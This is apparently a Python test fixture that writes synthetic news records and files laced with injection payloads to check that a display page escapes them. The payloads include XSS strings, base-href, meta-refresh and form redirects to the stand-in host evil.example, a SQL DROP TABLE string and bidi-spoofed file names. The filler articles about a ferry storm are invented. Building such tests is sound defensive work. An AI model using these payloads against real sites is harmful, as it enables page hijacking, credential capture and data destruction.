"""Records that try to become a part of the page that shows them."""

import json
from pathlib import Path
from typing import NamedTuple

# Sets a mark in the window that runs it; tests look for the mark.
MARK = "hacked"
RUN = f"window.{MARK}=1"


class Attack(NamedTuple):
    tries: str
    text: str


ATTACKS = (
    Attack("a script", f"<script>{RUN}</script>"),
    Attack("a script after the title", f"</title></head><script>{RUN}</script>"),
    Attack("a script after what holds text", f"</textarea></select></option></pre></style><script>{RUN}</script>"),
    Attack("a script in another case", f"<ScRiPt/x>{RUN}//</sCrIpT >"),
    Attack("an image that fails", f'<img src="no-such-image" onerror="{RUN}">'),
    Attack("a drawing", f"<svg/onload={RUN}><a href='#x'>"),
    Attack("an attribute in quotes", f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="'),
    Attack("an attribute in single quotes", f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='"),
    Attack("an attribute in none", f"x onpointerenter={RUN} style=position:fixed;inset:0"),
    Attack("an address that runs", f"javascript:{RUN}"),
    Attack(
        "another base", '<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css">'
    ),
    Attack("another page", '<meta http-equiv="refresh" content="0;url=http://evil.example/">'),
    Attack("a form", '</form><form action="http://evil.example/"><input name="q" autofocus><button>Search</button>'),
    Attack("a frame", f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>'),
    Attack("a style", "<style>main{display:none}</style>"),
    Attack("names of the page's own elements", '</main><main id="main"></main><input id="find"><figure class="chart">'),
    Attack("an end of a comment", f"--><script>{RUN}</script><!--"),
    Attack("a template", "{{ 7 * 191 }}{% include 'base.html' %}${7 * 191}"),
    Attack("an entity", f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}"),
    Attack("SQL", "'; DROP TABLE articles; -- \" $publisher \\' /* "),
    Attack("marks of direction", "\u202eexe.gpj\u202c \u2066left\u2069 \u200fright"),
    Attack("the other direction", "مرحبا بالعالم שלום עולם"),
    Attack("signs beyond the first plane", "👩‍👩‍👧‍👦 🏴‍☠️ 𝕏 \U000e0041"),
    Attack("marks upon marks", "Z" + "\u0335\u0322\u0321" * 40),
    Attack("a word without end", "Donaudampfschifffahrt" * 60),
    Attack("control characters", "bell\x07 escape\x1b[31m nul\x00 next\x85 del\x7f"),
)


def write_attacks(raw: Path) -> None:
    """Records of each attack in everything that a record may say, and files that are called by them."""
    raw.mkdir(parents=True)
    with (raw / "records.jsonl").open("w", encoding="utf-8") as file:
        for number, attack in enumerate(ATTACKS, 1):
            file.write(json.dumps(_make_record(number, attack.text)) + "\n")
            # A duplicate with a sentence of its own.
            again = _make_record(number, attack.text)
            again |= {"id": f"again {again['id']}", "publisher": f"Second {again['publisher']}"}
            again["text"] += f"\n\nThe other paper has it with {attack.text} at its end, too."
            file.write(json.dumps(again) + "\n")
    for number, attack in enumerate(ATTACKS, 1):
        # Of a file's name a slash is no part, and neither is NUL.
        folder = raw / f"{number:02d}"
        folder.mkdir()
        name = attack.text.replace("/", "").replace("\0", "")[:80]
        text = f"{attack.text}\n\n{_tell(number + 500, attack.text)}"
        (folder / f"{name}.txt").write_text(text, encoding="utf-8")
        # Refused, with the reason and the name.
        (folder / f"{name}.json").write_text(f"{{{attack.text}", encoding="utf-8")


def _make_record(number: int, attack: str) -> dict[str, object]:
    return {
        "id": f"{number} {attack}",
        "title": f"Harbour day {number} {attack}",
        "author": f"Anna {attack} Kovacs",
        "publisher": f"Ledger {attack}",
        "url": f"javascript:window.{MARK}=1" if number % 2 else f"https://ledger.example/{number}?{attack}",
        "date": f"2024-03-{number:02d}",
        "text": _tell(number, attack),
    }


def _tell(number: int, attack: str) -> str:
    """A story that nobody else tells, with names, a quotation, a toll and lines that no text keeps."""
    return (
        f"The ferry between Lisbon and the islands sailed again on day {number}, nine weeks after a storm broke pier "
        f"{number * 7} {attack} and the office of harbour {number * 13} said so at noon.\n\n"
        f"“Nobody here needs {attack} to be told how long {number} weeks are,” said Anna Kovacs, the harbour master, "
        f"who has counted {number * 17} boats.\n\n"
        f"At least {number + 3} people were killed in the storm near Porto, and {number + 20} were injured, the police "
        f"said {attack} on Tuesday.\n\n"
        f"Photo: {attack} / Ledger\n\n"
        f"Share this article on Facebook {attack}\n\nSubscribe to our newsletter\n"
    )
